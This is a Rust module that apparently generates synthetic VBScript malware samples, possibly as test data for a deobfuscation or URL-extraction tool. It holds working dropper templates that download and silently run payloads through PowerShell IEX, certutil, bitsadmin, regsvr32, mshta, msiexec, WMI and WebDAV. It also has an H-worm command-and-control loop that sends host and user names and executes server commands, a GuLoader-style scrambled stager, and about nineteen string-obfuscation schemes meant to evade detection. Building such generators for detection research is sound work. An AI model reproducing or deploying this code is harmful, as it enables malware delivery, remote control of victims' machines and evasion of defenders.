//! VBScript: worms (H-worm, njRAT), GuLoader's first steps, mail droppers and installers.

use super::super::{
    Dice, Truth, base64, codes, each, hex, keyed, put, quoted, reversed, wide, xored,
};
use super::{agent, alphabet, camel, chunks, halves, letters, places, salad, sparse, word};

fn name(dice: &mut Dice) -> String {
    match dice.below(3) {
        0 => dice.name(),
        1 => format!("v{}", salad(dice, 7)),
        _ => camel(dice),
    }
}

/// Pieces as strings with what joins them.
fn joined(pieces: &[String]) -> String {
    quoted(pieces, '"').join(" & ")
}

pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let own = name(dice);
    match dice.below(19) {
        0 => {
            let list: Vec<String> = text
                .bytes()
                .map(|it| match dice.below(5) {
                    0 => format!("ChrW({it})"),
                    1 => format!("Chr(&H{it:X})"),
                    2 => format!("Chr({}-{})", usize::from(it) + 84, 84),
                    3 => format!("Chr({}/2)", usize::from(it) * 2),
                    _ => format!("Chr({it})"),
                })
                .collect();
            list.join(dice.pick(&[" & ", "&"]))
        }
        1 => format!("StrReverse(\"{}\")", reversed(text)),
        2 => {
            let mark = if dice.chance(25) {
                dice.pick(&["▓", "ꗄ", "☀☂", "ЖЩ"]).to_owned()
            } else {
                dice.mark(text)
            };
            format!("Replace(\"{}\", \"{mark}\", \"\")", dice.littered(text, &mark))
        }
        3 => {
            let pieces = dice.pieces(text);
            if dice.chance(50) {
                format!("Join(Array({}), \"\")", quoted(&pieces, '"').join(", "))
            } else {
                let mark = dice.pick(&["|", "*", "~~", "#"]);
                format!("Join(Split(\"{}\", \"{mark}\"), \"\")", pieces.join(mark))
            }
        }
        4 => {
            let (text_in, out, at) = (dice.name(), dice.name(), dice.name());
            before.push_str(&format!(
                "Function {own}({text_in})\n  Dim {at}, {out}\n  {out} = \"\"\n  For {at} = 1 To Len({text_in}) Step 2\n    {out} = {out} & Chr(CLng(\"&H\" & Mid({text_in}, {at}, 2)))\n  Next\n  {own} = {out}\nEnd Function\n"
            ));
            format!("{own}(\"{}\")", hex(text.as_bytes()))
        }
        5 => {
            let (key, at) = (dice.key(), dice.name());
            before.push_str(&format!(
                "{own} = \"\"\nFor Each {at} In Split(\"{}\", \",\")\n  {own} = {own} & Chr(CInt({at}) Xor {key})\nNext\n",
                codes(xored(text, key), ",")
            ));
            own
        }
        6 => {
            let key = word(dice, 6, 6);
            before.push_str(&format!(
                "Function {own}(d, k)\n  Dim i, r, c\n  r = \"\"\n  For i = 1 To Len(d) Step 2\n    c = CLng(\"&H\" & Mid(d, i, 2)) Xor Asc(Mid(k, ((i - 1) / 2 Mod Len(k)) + 1, 1))\n    r = r & Chr(c)\n  Next\n  {own} = r\nEnd Function\n"
            ));
            format!("{own}(\"{}\", \"{key}\")", hex(&keyed(text, &key)))
        }
        7 => {
            let step = 2 + dice.below(5);
            let (one, two, three) = (dice.name(), dice.name(), dice.name());
            before.push_str(&format!(
                "Function {own}({one})\n  For {two} = {step} To Len({one}) Step {step}\n    {three} = {three} & Mid({one}, {two}, 1)\n  Next\n  {own} = {three}\nEnd Function\n"
            ));
            format!("{own}(\"{}\")", sparse(dice, text, step))
        }
        8 => {
            let by = 1 + dice.below(4) as u8;
            let moved: String = text.bytes().map(|it| char::from(it + by)).collect();
            before.push_str(&format!(
                "Function {own}(s)\n  Dim i, t\n  For i = 1 To Len(s)\n    t = t & Chr(Asc(Mid(s, i, 1)) - {by})\n  Next\n  {own} = t\nEnd Function\n"
            ));
            format!("{own}(\"{moved}\")")
        }
        9 => {
            let second = name(dice);
            before.push_str(&format!(
                "Function {own}(ByVal s)\n  Dim x, n\n  Set x = CreateObject(\"Msxml2.DOMDocument.3.0\")\n  Set n = x.CreateElement(\"base64\")\n  n.dataType = \"bin.base64\"\n  n.text = s\n  {own} = {second}(n.nodeTypedValue)\n  Set n = Nothing\n  Set x = Nothing\nEnd Function\nFunction {second}(b)\n  Dim st\n  Set st = CreateObject(\"ADODB.Stream\")\n  st.Type = 1\n  st.Open\n  st.Write b\n  st.Position = 0\n  st.Type = 2\n  st.CharSet = \"us-ascii\"\n  {second} = st.ReadText\n  Set st = Nothing\nEnd Function\n"
            ));
            format!("{own}(\"{}\")", base64(text.as_bytes()))
        }
        10 => {
            before.push_str(&format!(
                "Function {own}(ByVal base64String)\n  Const Base64 = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\"\n  Dim dataLength, sOut, groupBegin\n  dataLength = Len(base64String)\n  For groupBegin = 1 To dataLength Step 4\n    Dim numDataBytes, CharCounter, thisChar, thisData, nGroup, pOut\n    numDataBytes = 3\n    nGroup = 0\n    For CharCounter = 0 To 3\n      thisChar = Mid(base64String, groupBegin + CharCounter, 1)\n      If thisChar = \"=\" Then\n        numDataBytes = numDataBytes - 1\n        thisData = 0\n      Else\n        thisData = InStr(1, Base64, thisChar, vbBinaryCompare) - 1\n      End If\n      nGroup = 64 * nGroup + thisData\n    Next\n    nGroup = Hex(nGroup)\n    nGroup = String(6 - Len(nGroup), \"0\") & nGroup\n    pOut = Chr(CByte(\"&H\" & Mid(nGroup, 1, 2))) + Chr(CByte(\"&H\" & Mid(nGroup, 3, 2))) + Chr(CByte(\"&H\" & Mid(nGroup, 5, 2)))\n    sOut = sOut & Left(pOut, numDataBytes)\n  Next\n  {own} = sOut\nEnd Function\n"
            ));
            format!("{own}(\"{}\")", base64(text.as_bytes()))
        }
        11 => {
            let coded: String = text
                .bytes()
                .map(
                    |it| if dice.chance(30) { format!("%u{it:04x}") } else { format!("%{it:02X}") },
                )
                .collect();
            format!("Unescape(\"{coded}\")")
        }
        12 => {
            let mut littered = String::new();
            for letter in text.chars() {
                littered.push(letter);
                if dice.chance(40) {
                    littered.push_str(dice.pick(&["#", "~", "@", "#~"]));
                }
            }
            before.push_str(&format!(
                "Set {own} = New RegExp\n{own}.Pattern = \"[#~@]\"\n{own}.Global = True\n"
            ));
            format!("{own}.Replace(\"{littered}\", \"\")")
        }
        13 => {
            let all = alphabet(dice, text, "abcdefghijklmnopqrstuvwxyz");
            before.push_str(&format!("{own} = \"{all}\"\n"));
            let list: Vec<String> =
                places(&all, text).iter().map(|at| format!("Mid({own},{},1)", at + 1)).collect();
            list.join("&")
        }
        14 => {
            let pieces = dice.pieces(text);
            let keys: Vec<String> = pieces.iter().map(|_| dice.name()).collect();
            before.push_str(&format!("Set {own} = CreateObject(\"Scripting.Dictionary\")\n"));
            for at in dice.order(pieces.len()) {
                before.push_str(&format!("{own}.Add \"{}\", \"{}\"\n", keys[at], pieces[at]));
            }
            let list: Vec<String> = keys
                .iter()
                .map(|it| {
                    if dice.chance(50) {
                        format!("{own}(\"{it}\")")
                    } else {
                        format!("{own}.Item(\"{it}\")")
                    }
                })
                .collect();
            list.join(" & ")
        }
        15 => {
            before.push_str(&format!("{own} = \"\"\n"));
            for piece in chunks(text, 3 + dice.below(6)) {
                if dice.chance(40) {
                    before.push_str(&format!("'{} {}\n", letters(dice, 9), letters(dice, 6)));
                }
                before.push_str(&format!("{own} = {own} & \"{piece}\"\n"));
            }
            own
        }
        16 => {
            let line = format!("{own} = \"{text}\"");
            before.push_str(&if dice.chance(50) {
                format!("Execute StrReverse(\"{}\")\n", reversed(&line).replace('"', "\"\""))
            } else {
                format!("ExecuteGlobal {}\n", each(&line, " & ", |it| format!("Chr({it})")))
            });
            own
        }
        17 => {
            let (by, at) = (2 + dice.below(8), dice.name());
            let list: Vec<String> =
                text.bytes().map(|it| (usize::from(it) * by).to_string()).collect();
            before.push_str(&format!(
                "Dim {own}\nFor Each {at} In Array({})\n  {own} = {own} & Chr({at} / {by})\nNext\n",
                list.join(", ")
            ));
            own
        }
        _ => {
            let pieces = dice.pieces(text);
            let (mut said, mut list) = (letters(dice, 4), Vec::new());
            let mut at = 0;
            for piece in &pieces {
                if dice.chance(50) {
                    at += 1;
                    said.push_str(&format!(";{}", letters(dice, 4)));
                }
                at += 1;
                said.push_str(&format!(";{piece}"));
                list.push(format!("{own}({at})"));
            }
            before.push_str(&format!("{own} = Split(\"{said}\", \";\")\n"));
            list.join(" & ")
        }
    }
}

fn hidden(dice: &mut Dice, text: &str) -> (String, String) {
    let mut before = String::new();
    let word = hide(dice, text, &mut before);
    (before, word)
}

/// The name of an object, said in one way or another.
fn object(dice: &mut Dice, name: &str) -> String {
    match dice.below(4) {
        0 => joined(&dice.pieces(name)),
        1 => format!("StrReverse(\"{}\")", reversed(name)),
        _ => format!("\"{name}\""),
    }
}

fn wrapped(dice: &mut Dice, script: &str) -> String {
    let (own, at) = (name(dice), dice.name());
    let run = dice.pick(&["ExecuteGlobal", "Execute", "ExecuteGlobal"]);
    match dice.below(5) {
        0 => {
            let by = dice.below(60) + 1;
            let list: Vec<String> =
                script.bytes().map(|it| (usize::from(it) + by).to_string()).collect();
            let mut out = format!("{own} = \"\"\n");
            let mut lines = Vec::new();
            for part in list.chunks(60) {
                lines.push(format!("\"{}\"", part.join("*")));
            }
            let data = name(dice);
            out.push_str(&format!("{data} = {}\n", lines.join(" & \"*\" & _\n")));
            out + &format!(
                "For Each {at} In Split({data}, \"*\")\n  {own} = {own} & Chr({at} - {by})\nNext\n{run} {own}\n"
            )
        }
        1 => {
            let (function, data) = (name(dice), hex(script.as_bytes()));
            let mut out = format!("Dim {own}\n");
            for part in chunks(&data, 100) {
                out.push_str(&format!("{own} = {own} & \"{part}\"\n"));
            }
            out + &format!(
                "Function {function}(h)\n  Dim i\n  For i = 1 To Len(h) Step 2\n    {function} = {function} & Chr(\"&H\" & Mid(h, i, 2))\n  Next\nEnd Function\n{run}({function}({own}))\n"
            )
        }
        2 => {
            let mut out = format!("Dim {own}\n");
            for line in script.lines() {
                let turned = reversed(line).replace('"', "\"\"");
                out.push_str(&format!("{own} = {own} & StrReverse(\"{turned}\") & vbCrLf\n"));
            }
            out + &format!("{run} {own}\n")
        }
        3 => {
            let (function, key) = (name(dice), dice.key());
            let data = codes(script.bytes().map(|it| it ^ key), " ");
            let mut out = format!("Dim {own}\n");
            for part in chunks(&data, 120) {
                out.push_str(&format!("{own} = {own} & \"{part}\"\n"));
            }
            out + &format!(
                "Function {function}(s, k)\n  Dim p, r\n  For Each p In Split(s, \" \")\n    r = r & Chr(CLng(p) Xor k)\n  Next\n  {function} = r\nEnd Function\n{run} {function}({own}, {key})\n"
            )
        }
        _ => {
            let mark = dice.pick(&["$%", "@@@", "#!#"]);
            let mut out = format!("Dim {own}\n");
            for line in script.lines() {
                let mut said = String::new();
                for letter in line.chars() {
                    said.push(letter);
                    if dice.chance(20) {
                        said.push_str(mark);
                    }
                }
                out.push_str(&format!(
                    "{own} = {own} & \"{}\" & vbNewLine\n",
                    said.replace('"', "\"\"")
                ));
            }
            out + &format!("{run} Replace({own}, \"{mark}\", \"\")\n")
        }
    }
}

fn junk(dice: &mut Dice) -> String {
    let mut out = String::new();
    for _ in 0..super::much(dice) {
        let (one, two) = (camel(dice), camel(dice));
        out.push_str(&match dice.below(6) {
            0 => format!("'{} {} {}\n", letters(dice, 9), letters(dice, 5), one),
            1 => format!("Dim {one}\n{one} = {} + {}\n", dice.below(900), dice.below(90)),
            2 => format!("Const {one} = \"{}\"\n", letters(dice, 12)),
            3 => format!("Rem {} {two}\n", letters(dice, 12)),
            4 => format!(
                "Function {one}({two})\n  {one} = {two} * {}\nEnd Function\n",
                dice.below(99)
            ),
            _ => format!(
                "{one} = Len(\"{}\")\nIf {one} > 500 Then WScript.Quit\n",
                letters(dice, 12)
            ),
        });
    }
    out
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let script = plain(dice, truth);
    let mut out = String::new();
    if dice.chance(40) {
        out.push_str("On Error Resume Next\n");
    }
    if dice.chance(45) {
        out.push_str(&junk(dice));
    }
    out.push_str(&script);
    if dice.chance(25) && out.is_ascii() && !out.contains("WScript.ScriptFullName") {
        wrapped(dice, &out)
    } else {
        out
    }
}

fn plain(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(13) {
        0 | 1 => download(dice, truth),
        2 => answer(dice, truth),
        3 | 4 => runs(dice, truth),
        5 => worm(dice, truth),
        6 => guloader(dice, truth),
        7 => installer(dice, truth),
        8 => writes(dice, truth),
        9 => management(dice, truth),
        10 => several(dice, truth),
        11 => subroutine(dice, truth),
        _ => share(dice, truth),
    }
}

fn download(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".exe", "", ".dat", ".jpg", ".php?id=31"]);
    let (before, word) = hidden(dice, &url);
    let kind = dice.pick(&[
        "MSXML2.XMLHTTP",
        "Microsoft.XMLHTTP",
        "MSXML2.ServerXMLHTTP.6.0",
        "WinHttp.WinHttpRequest.5.1",
    ]);
    let agent = agent(dice);
    let header = if dice.chance(50) && !kind.starts_with("Micro") {
        format!("@HTTP@.setRequestHeader \"User-Agent\", \"{agent}\"\n")
    } else {
        String::new()
    };
    let template = format!(
        "@BEFORE@Dim @HTTP@, @STREAM@, @SHELL@, @PATH@\nSet @HTTP@ = CreateObject(@KIND@)\nSet @STREAM@ = CreateObject(@ADODB@)\nSet @SHELL@ = CreateObject(@WSH@)\n@PATH@ = @SHELL@.ExpandEnvironmentStrings(\"%@PLACE@%\") & \"\\@FILE@.exe\"\n@HTTP@.Open \"GET\", @URL@, False\n{header}@HTTP@.Send\nIf @HTTP@.Status = 200 Then\n  With @STREAM@\n    .Type = 1\n    .Open\n    .Write @HTTP@.responseBody\n    .SaveToFile @PATH@, 2\n    .Close\n  End With\n  @SHELL@.Run @PATH@, 0, False\nEnd If\n"
    );
    put(
        &template,
        &[
            ("BEFORE", &before),
            ("KIND", &object(dice, kind)),
            ("ADODB", &object(dice, "ADODB.Stream")),
            ("WSH", &object(dice, "WScript.Shell")),
            ("HTTP", &name(dice)),
            ("STREAM", &name(dice)),
            ("SHELL", &name(dice)),
            ("PATH", &name(dice)),
            ("PLACE", dice.pick(&["TEMP", "APPDATA", "PUBLIC"])),
            ("FILE", &dice.name()),
            ("URL", &word),
        ],
    )
}

/// What a server answers is run.
fn answer(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".txt", ".vbs"]);
    let (before, word) = hidden(dice, &url);
    let (http, own) = (name(dice), name(dice));
    let kind = object(dice, "MSXML2.ServerXMLHTTP");
    match dice.below(2) {
        0 => format!(
            "{before}Set {http} = CreateObject({kind})\n{http}.Open \"GET\", {word}, False\n{http}.Send\nExecuteGlobal {http}.responseText\n"
        ),
        _ => format!(
            "{before}Function {own}(u)\n  Dim {http}\n  Set {http} = CreateObject({kind})\n  {http}.Open \"POST\", u, False\n  {http}.setRequestHeader \"Content-Type\", \"application/x-www-form-urlencoded\"\n  {http}.Send \"id=1&v=2\"\n  {own} = {http}.responseText\nEnd Function\nExecute({own}({word}))\n"
        ),
    }
}

/// A command line before and behind a URL, as a string of the language.
fn command(dice: &mut Dice, word: &str) -> String {
    let file = dice.name();
    match dice.below(9) {
        0 => format!(
            "\"powershell -NoP -W Hidden -Exec Bypass -Command \"\"IEX (New-Object Net.WebClient).DownloadString('\" & {word} & \"')\"\"\""
        ),
        1 => format!("\"powershell.exe -w hidden iex(irm '\" & {word} & \"')\""),
        2 => format!(
            "\"cmd.exe /c curl -s -o %TEMP%\\{file}.exe \" & {word} & \" && %TEMP%\\{file}.exe\""
        ),
        3 => format!("\"mshta \" & {word}"),
        4 => format!("\"certutil -urlcache -split -f \" & {word} & \" %TEMP%\\{file}.exe\""),
        5 => format!(
            "\"cmd /c bitsadmin /transfer {file} /download /priority high \" & {word} & \" %APPDATA%\\{file}.exe & start %APPDATA%\\{file}.exe\""
        ),
        6 => format!("\"regsvr32 /s /n /u /i:\" & {word} & \" scrobj.dll\""),
        7 => format!(
            "\"powershell -c $u='\" + {word} + \"';$p=$env:TEMP+'\\{file}.exe';(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p\""
        ),
        _ => format!(
            "Chr(34) & \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" & Chr(34) & \" -w h Invoke-WebRequest -Uri '\" & {word} & \"' -OutFile C:\\Users\\Public\\{file}.exe; C:\\Users\\Public\\{file}.exe\""
        ),
    }
}

fn runs(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1", ".exe", ".hta"]);
    let (own, shell) = (name(dice), name(dice));
    let (before, line) = if dice.chance(25) {
        let code = format!("IEX (New-Object Net.WebClient).DownloadString('{url}')");
        (String::new(), format!("\"powershell -nop -w hidden -enc {}\"", base64(&wide(&code))))
    } else {
        let (before, word) = hidden(dice, &url);
        // Joining binds looser than what a way may have put together with a plus.
        let word = if word.contains(['&', '+']) { format!("({word})") } else { word };
        (before, command(dice, &word))
    };
    let kind = object(dice, "WScript.Shell");
    match dice.below(5) {
        0 => format!("{before}CreateObject({kind}).Run {line}, 0, False\n"),
        1 => format!(
            "{before}Set {shell} = CreateObject({kind})\n{own} = {line}\n{shell}.Run {own}, 0, True\n"
        ),
        2 => format!("{before}Set {shell} = WScript.CreateObject({kind})\n{shell}.Exec({line})\n"),
        3 => format!(
            "{before}{own} = {line}\nCreateObject(\"Shell.Application\").ShellExecute \"cmd.exe\", \"/c \" & {own}, \"\", \"open\", 0\n"
        ),
        _ => format!(
            "{before}Dim {shell} : Set {shell} = CreateObject({kind}) : {shell}.Run({line}), 0 : Set {shell} = Nothing\n"
        ),
    }
}

/// H-worm and its children.
fn worm(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = (dice.host(), dice.port());
    let page = dice.pick(&["is-ready", "Vre", "is-enum-driver"]);
    truth.urls.insert(format!("http://{host}:{port}/{page}"));
    let (before, word) = hidden(dice, &host);
    put(
        "'<[ recoder : @NICK@ (c) ]>\n\n'=-=-=-=-= config =-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=\n@BEFORE@host = @HOST@\nport = @PORT@\ninstalldir = \"%temp%\"\nlnkfile = true\n\n'=-=-=-=-= public var =-=-=-=-=-=-=-=-=-=-=-=-=\ndim shellobj\nset shellobj = wscript.createobject(\"wscript.shell\")\ndim httpobj\nset httpobj = createobject(\"msxml2.xmlhttp\")\n\n'=-=-=-=-= private var =-=-=-=-=-=-=-=-=-=-=-=\ninstallname = wscript.scriptname\nspliter = \"<|>\"\nsleep = 5000\ndim response\ndim cmd\nresponse = \"\"\n\non error resume next\n\nwhile true\n  response = \"\"\n  response = post (\"@PAGE@\",\"\")\n  cmd = split (response,spliter)\n  select case cmd (0)\n  case \"excecute\"\n    execute cmd (1)\n  case \"uninstall\"\n    wscript.quit\n  case \"sleep\"\n    sleep = eval (cmd (1))\n  end select\n  wscript.sleep sleep\nwend\n\nfunction post (cmd ,param)\n  post = param\n  httpobj.open \"post\",\"http://\" & host & \":\" & port & \"/\" & cmd, false\n  httpobj.setrequestheader \"user-agent:\",information\n  httpobj.send param\n  post = httpobj.responsetext\nend function\n\nfunction information\n  on error resume next\n  inf = shellobj.expandenvironmentstrings(\"%computername%\") & spliter\n  inf = inf & shellobj.expandenvironmentstrings(\"%username%\") & spliter & \"plus\"\n  information = inf\nend function\n",
        &[
            ("NICK", &dice.name()),
            ("BEFORE", &before),
            ("HOST", &word),
            ("PORT", &port.to_string()),
            ("PAGE", page),
        ],
    )
}

/// A command line letter by letter between others, and comments without number.
fn guloader(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".snp", ".bin"]);
    let file = dice.name();
    let code = format!(
        "$u='{url}';$p=$env:APPDATA+'\\{file}.dat';(New-Object Net.WebClient).DownloadFile($u,$p);& $p"
    );
    let (function, text, run) = (camel(dice), camel(dice), camel(dice));
    let step = 3 + dice.below(4);
    let littered = sparse(dice, &code, step);
    let mut out = String::new();
    for part in chunks(&littered, 40 + dice.below(60)) {
        for _ in 0..dice.below(3) {
            out.push_str(&format!(
                "'{} {} {}\n",
                letters(dice, 8),
                letters(dice, 12),
                letters(dice, 6)
            ));
        }
        out.push_str(&format!("{text} = {text} & \"{part}\"\n"));
    }
    out + &format!(
        "Function {function}(ByVal s)\n  Dim i, r\n  For i = {step} To Len(s) Step {step}\n    r = r & Mid(s, i, 1)\n  Next\n  {function} = r\nEnd Function\nSet {run} = CreateObject(\"Shell.Application\")\n{run}.ShellExecute \"powershell.exe\", Chr(34) & {function}({text}) & Chr(34), \"\", \"\", 0\n"
    )
}

fn installer(dice: &mut Dice, truth: &mut Truth) -> String {
    let scriptlet = dice.chance(33);
    let url = truth.url(dice, if scriptlet { &[".sct", ".xml"] } else { &[".msi", ""] });
    let (before, word) = hidden(dice, &url);
    let own = name(dice);
    if scriptlet {
        return format!("{before}Set {own} = GetObject(\"script:\" & {word})\n");
    }
    if dice.chance(50) {
        return format!(
            "{before}Set {own} = CreateObject(\"WindowsInstaller.Installer\")\n{own}.UILevel = 2\n{own}.InstallProduct {word}\n"
        );
    }
    format!(
        "{before}Set {own} = CreateObject(\"WScript.Shell\")\n{own}.Run \"msiexec /qn /i \" & {word}, 0, False\n"
    )
}

/// A file with another script, which is then run.
fn writes(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1", ".exe"]);
    let (before, word) = hidden(dice, &url);
    let (file, path, out) = (dice.name(), name(dice), name(dice));
    let powershell = dice.chance(50);
    let (ending, lines, run) = if powershell {
        (
            "ps1",
            format!(
                "{out}.WriteLine \"$u = '\" & {word} & \"'\"\n{out}.WriteLine \"$c = New-Object Net.WebClient\"\n{out}.WriteLine \"iex $c.DownloadString($u)\"\n"
            ),
            format!("\"powershell -ep bypass -w hidden -File \"\"\" & {path} & \"\"\"\""),
        )
    } else {
        (
            "bat",
            format!(
                "{out}.WriteLine \"@echo off\"\n{out}.WriteLine \"curl -s -o %TEMP%\\{file}.exe \" & {word}\n{out}.WriteLine \"start %TEMP%\\{file}.exe\"\n"
            ),
            format!("\"cmd /c \"\"\" & {path} & \"\"\"\""),
        )
    };
    format!(
        "{before}Set fso = CreateObject(\"Scripting.FileSystemObject\")\n{path} = fso.GetSpecialFolder(2) & \"\\{file}.{ending}\"\nSet {out} = fso.CreateTextFile({path}, True)\n{lines}{out}.Close\nCreateObject(\"WScript.Shell\").Run {run}, 0, True\n"
    )
}

/// Through WMI.
fn management(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1"]);
    let (before, word) = hidden(dice, &url);
    let word = if word.contains(['&', '+']) { format!("({word})") } else { word };
    let line = command(dice, &word);
    let (service, config, process) = (name(dice), name(dice), name(dice));
    format!(
        "{before}Const HIDDEN_WINDOW = 0\nstrComputer = \".\"\nSet {service} = GetObject(\"winmgmts:\" & \"{{impersonationLevel=impersonate}}!\\\\\" & strComputer & \"\\root\\cimv2\")\nSet {config} = {service}.Get(\"Win32_ProcessStartup\").SpawnInstance_\n{config}.ShowWindow = HIDDEN_WINDOW\nSet {process} = {service}.Get(\"Win32_Process\")\n{process}.Create {line}, Null, {config}, intProcessID\n"
    )
}

fn several(dice: &mut Dice, truth: &mut Truth) -> String {
    let urls: Vec<String> =
        (0..2 + dice.below(3)).map(|_| truth.url(dice, &["", ".exe", ".png"])).collect();
    let (list, one, http, stream) = (name(dice), name(dice), name(dice), name(dice));
    let mut before = String::new();
    let line = if dice.chance(50) {
        let words: Vec<String> = urls.iter().map(|it| hide(dice, it, &mut before)).collect();
        format!("{list} = Array({})\n", words.join(", "))
    } else {
        let mark = dice.pick(&["|", "@", ","]);
        format!("{list} = Split(\"{}\", \"{mark}\")\n", urls.join(mark))
    };
    format!(
        "{before}{line}n = 0\nFor Each {one} In {list}\n  On Error Resume Next\n  n = n + 1\n  Set {http} = CreateObject(\"MSXML2.XMLHTTP\")\n  {http}.Open \"GET\", {one}, False\n  {http}.Send\n  Set {stream} = CreateObject(\"ADODB.Stream\")\n  {stream}.Type = 1\n  {stream}.Open\n  {stream}.Write {http}.ResponseBody\n  {stream}.SaveToFile \"C:\\Users\\Public\\f\" & n & \".exe\", 2\n  {stream}.Close\n  CreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\f\" & n & \".exe\", 0\nNext\n"
    )
}

/// Calls from one subroutine to the next, with the parts of the address apart.
fn subroutine(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".exe"]);
    let (server, path) = halves(&url);
    let (before, one) = hidden(dice, &server);
    let (more, two) = hidden(dice, &path);
    let (main, fetch, base, file) = (camel(dice), camel(dice), name(dice), dice.name());
    format!(
        "Dim {base}, gPath\n{before}{more}{base} = {one}\ngPath = \"C:\\ProgramData\\{file}.exe\"\n\nSub {main}()\n  If WScript.Arguments.Count > 5 Then WScript.Quit\n  Call {fetch}({base} & {two}, gPath)\nEnd Sub\n\nSub {fetch}(ByVal u, ByVal p)\n  Dim h, b\n  Set h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\n  h.Open \"GET\", u, False\n  h.Send\n  Set b = CreateObject(\"ADODB.Stream\")\n  b.Type = 1 : b.Open\n  b.Write h.ResponseBody\n  b.SaveToFile p, 2\n  b.Close\n  CreateObject(\"WScript.Shell\").Run \"cmd /c start \"\"\"\" \"\"\" & p & \"\"\"\", 0, False\nEnd Sub\n\n{main}\n"
    )
}

/// A folder that lies at a server of the web.
fn share(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = truth.endpoint(dice);
    let (before, word) = hidden(dice, &host);
    let file = dice.name();
    match dice.below(2) {
        0 => format!(
            "{before}Set net = CreateObject(\"WScript.Network\")\nnet.MapNetworkDrive \"Z:\", \"\\\\\" & {word} & \"@{port}\\DavWWWRoot\"\nCreateObject(\"WScript.Shell\").Run \"Z:\\{file}.exe\", 0, False\n"
        ),
        _ => format!(
            "{before}CreateObject(\"WScript.Shell\").Run \"rundll32 \\\\\" & {word} & \"@{port}\\DavWWWRoot\\{file}.dll,Run\", 0, False\n"
        ),
    }
}
